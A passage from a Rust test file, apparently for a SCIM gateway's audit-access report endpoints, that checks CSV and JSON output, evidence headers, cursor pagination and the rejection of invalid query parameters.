    assert_eq!(rows[0]["permission_set_name"], "ReadOnly");
    assert_eq!(rows[0]["group_name"], "Engineering");
    assert_eq!(body["source"], "trail");
    assert_eq!(body["evidence"]["records"], 4);
    assert!(body["next_cursor"].is_null());
    // CSV: a header and two rows, the spreadsheet formula defused, the evidence in a
    // header that decodes to the JSON answer's.
    assert_eq!(csv.status, StatusCode::OK);
    let csv_lines: Vec<&str> = csv.text.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(csv_lines.len(), 3, "{}", csv.text);
    assert!(csv_lines[0].starts_with("user_id,okta_user_id,user_name,account_id"));
    assert!(csv.text.contains(",'=ada@example.com,"), "{}", csv.text);
    let evidence = csv
        .headers
        .get("scimgw-evidence")
        .unwrap()
        .to_str()
        .unwrap();
    use base64::Engine as _;
    let evidence: Value = serde_json::from_slice(
        &base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(evidence)
            .unwrap(),
    )
    .unwrap();
    assert_eq!(evidence["digest"], body["evidence"]["digest"]);
    assert_eq!(lines.text.lines().count(), 1);
    assert_eq!(
        serde_json::from_str::<Value>(lines.text.lines().next().unwrap()).unwrap()["user_name"],
        "bob@example.com"
    );
    // Everything was gained since 2020; nobody left.
    let changes = diff.json()["changes"].as_array().unwrap().clone();
    assert_eq!(changes.len(), 2);
    assert!(
        changes
            .iter()
            .all(|c| c["change"] == "gained" && c["cause"]["id"].is_string())
    );
    assert_eq!(leavers.json()["leavers"].as_array().unwrap().len(), 0);
    // Every report read is noted like any read of the trail.
    assert!(
        f.notes
            .notes()
            .iter()
            .any(|n| n.path == "/audit/access/diff")
    );
}

#[tokio::test]
async fn access_report_parameters_are_checked_and_pages_keep_their_instant() {
    // Arrange
    let f = fixture(access_trail()).await;

    // Act: one row a page.
    let first = get(&f.router, "/audit/access?limit=1").await.json();
    let cursor = first["next_cursor"].as_str().unwrap().to_owned();
    // A record after the first page: the second page still answers as of the first's
    // instant.
    let mut late = access_trail().remove(0);
    late.time = OffsetDateTime::now_utc() + time::Duration::hours(1);
    f.store.append(late).await.unwrap();
    let second = get(&f.router, &format!("/audit/access?limit=1&cursor={cursor}"))
        .await
        .json();

    // Assert
    assert_eq!(first["rows"].as_array().unwrap().len(), 1);
    assert_eq!(second["rows"].as_array().unwrap().len(), 1);
    assert_ne!(first["rows"][0]["user_id"], second["rows"][0]["user_id"]);
    assert_eq!(first["as_of"], second["as_of"]);
    assert!(second["next_cursor"].is_null());
    for bad in [
        "/audit/access?as_of=yesterday",
        "/audit/access?asof=2020-01-01T00:00:00Z",
        "/audit/access?account=12345",
        "/audit/access?limit=0",
        "/audit/access?limit=5001",
        "/audit/access?format=xml",
        "/audit/access?cursor=%00%FF",
        "/audit/access?cursor=eyJ0IjoxfQ",
        "/audit/access/diff",
        "/audit/access/diff?from=2030-01-01T00:00:00Z&to=2020-01-01T00:00:00Z",
        "/audit/access/leavers",
        "/audit/access/leavers?since=2020-01-01T00:00:00Z&threshold_hours=0",
        "/audit/access/leavers?since=2020-01-01T00:00:00Z&threshold_hours=-4",
    ] {
        let answer = get(&f.router, bad).await;
        assert_eq!(
            answer.status,
            StatusCode::BAD_REQUEST,
            "{bad}: {}",
            answer.text
        );
        assert_eq!(answer.json()["error"], "invalid_request", "{bad}");
    }
    let post = call(&f.router, Method::POST, "/audit/access", Some(GOOD), None).await;
    assert_eq!(post.status, StatusCode::METHOD_NOT_ALLOWED);
}
